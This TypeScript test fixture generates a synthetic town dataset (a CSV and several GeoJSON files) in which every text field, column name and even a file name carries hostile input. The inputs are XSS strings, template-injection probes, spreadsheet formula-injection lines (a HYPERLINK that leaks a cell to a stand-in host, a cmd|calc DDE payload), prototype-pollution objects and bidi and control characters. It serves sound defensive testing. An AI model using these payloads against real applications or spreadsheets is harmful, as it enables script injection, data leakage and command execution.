import { randomStream } from '@oryn/core';

/** In the empty steppe; degrees of half the side of the town. */
const CENTRE = [66.4, 47.2] as const;
const HALF_LON = 0.05;
const HALF_LAT = 0.034;
const ROWS = 3000;

/** What turns the reading direction round: overrides, an embedding, an isolate, a mark. */
const TURNERS = '\u202e\u202d\u202a\u2066\u200f';
export const HUGE = `Ұ<b>${'үлкен'.repeat(1000)}</b>`;

/** Texts that would do something, or spoil a page, if they were anything but text. */
const HOSTILE_TEXTS: readonly string[] = [
  '<img src=x onerror="window.hacked=1">img',
  '<script>window.hacked=1</script>script',
  'javascript:window.hacked=1//link',
  '"><svg onload=window.hacked=1>svg',
  '</option></select></title></style></textarea><iframe srcdoc="<script>top.hacked=1</script>">closers',
  `{{7*7}} $\{7*7} #{7*7} <%= 7*7 %> templates`,
  '{n, plural, other {#}} braces',
  '=HYPERLINK("https://example.invalid/?leak="&A1,"open")',
  `+1+cmd|' /C calc'!A0`,
  '@SUM(1+1)*cmd',
  `${TURNERS}מבוא לעיר turned`,
  'شارع السلام 12, قطاع 3',
  'zero\u200bwidth\u200d\ufeff\u00ad\u2028line\u0085next',
  'nul\u0000bell\u0007escape\u001b[31m\u0008controls',
  'Z̴̡̛͙̖a̷̛͈͂l̸͇̾g̶̘̈́o̵̝͐ marks 𐐷 👩‍👩‍👧‍👦',
  HUGE,
];

/** Names of the columns that hold them. */
export const HOSTILE_COLUMNS = {
  category: '<img src=x onerror="window.hacked=1">offence',
  placeType: '__proto__',
  district: `${TURNERS}אזור`,
  address: `constructor ${HUGE}`,
} as const;

interface HostileFile {
  name: string;
  mimeType: string;
  buffer: Buffer;
}

/**
 * Files whose every text is hostile, the name of the first too, and whose every number is sound, so that a study can be
 * made of them: incidents, boundary, districts, streets and posts.
 */
export function hostileTown(): HostileFile[] {
  const file = (name: string, content: string, mimeType = 'application/geo+json'): HostileFile => ({
    name,
    mimeType,
    buffer: Buffer.from(content),
  });
  return [
    file(`<img src=x onerror=window.hacked=1>${TURNERS}{n} town.csv`, incidents(), 'text/csv'),
    file('boundary.geojson', collection([square(-1, -1, 2, { name: HOSTILE_TEXTS[0] })])),
    file('districts.geojson', collection(districts())),
    file('streets.geojson', collection(streets())),
    file('posts.geojson', collection(posts())),
  ];
}

const at = (x: number, y: number): [number, number] => [
  Number((CENTRE[0] + x * HALF_LON).toFixed(6)),
  Number((CENTRE[1] + y * HALF_LAT).toFixed(6)),
];

function incidents(): string {
  const random = randomStream(23);
  const within = (): number => random.uniform() * 2 - 1;
  const middles = [at(0.3, 0.4), at(-0.5, -0.3), at(0.6, -0.6)];
  const two = (n: number): string => String(n).padStart(2, '0');
  const quoted = (cell: string): string => `"${cell.replaceAll('"', '""')}"`;
  // A table with NUL in it is refused; in JSON it is a letter like any other.
  const text = (i: number): string =>
    quoted(HOSTILE_TEXTS[i % HOSTILE_TEXTS.length].replaceAll('\u0000', ''));
  const rows = Array.from({ length: ROWS }, (_, i) => {
    const [lon, lat] =
      i % 2 === 0
        ? at(within(), within())
        : middles[i % 3].map((middle) => Number((middle + random.normal() * 0.002).toFixed(6)));
    const date = `${2019 + (i % 5)}-${two(1 + (i % 12))}-${two(1 + ((i * 7) % 28))}T${two((i * 5) % 24)}:17:00`;
    // The columns take turns at different speeds, so that each is told from the others.
    return [lon, lat, date, text(i >> 1), text(i >> 2), text(i >> 3), text(i)].join(',');
  });
  const names = Object.values(HOSTILE_COLUMNS).map(quoted);
  return [['lon', 'lat', 'date', ...names].join(','), ...rows, ''].join('\n');
}

/** Only in a text can a feature have a property of its own by the name of `__proto__`. */
const collection = (features: unknown[]): string =>
  JSON.stringify({ type: 'FeatureCollection', features }).replaceAll('"proto"', '"__proto__"');

const POLLUTING = { proto: { hacked: 1 }, constructor: { prototype: { hacked: 1 } }, toString: 'text' };

function square(x: number, y: number, side: number, properties: Record<string, unknown>): unknown {
  const ring = [at(x, y), at(x + side, y), at(x + side, y + side), at(x, y + side), at(x, y)];
  return {
    type: 'Feature',
    id: HOSTILE_TEXTS[0],
    properties: { ...POLLUTING, ...properties },
    geometry: { type: 'Polygon', coordinates: [ring] },
  };
}

/** Sixteen of them, a name each; one has a name that every object knows. */
function districts(): unknown[] {
  return HOSTILE_TEXTS.map((name, i) =>
    square(-1 + (i % 4) / 2, -1 + Math.floor(i / 4) / 2, 0.5, {
      name: i === 4 ? '__proto__' : name,
      name_kk: HOSTILE_TEXTS[(i + 1) % HOSTILE_TEXTS.length],
    }),
  );
}

function streets(): unknown[] {
  return Array.from({ length: 26 }, (_, i) => {
    const across = ((i % 13) / 12) * 2 - 1;
    const name = HOSTILE_TEXTS[i % HOSTILE_TEXTS.length];
    const coordinates = i < 13 ? [at(-1, across), at(1, across)] : [at(across, -1), at(across, 1)];
    return {
      type: 'Feature',
      properties: { ...POLLUTING, name, class: i % 4 === 0 ? 'main' : name },
      geometry: { type: 'LineString', coordinates },
    };
  });
}

function posts(): unknown[] {
  return HOSTILE_TEXTS.map((name, i) => ({
    type: 'Feature',
    id: name,
    properties: { ...POLLUTING, name: `police ${name}`, kind: i % 2 === 0 ? 'police' : name, amenity: name },
    geometry: { type: 'Point', coordinates: at(-0.9 + i * 0.12, 0.9 - i * 0.11) },
  }));
}
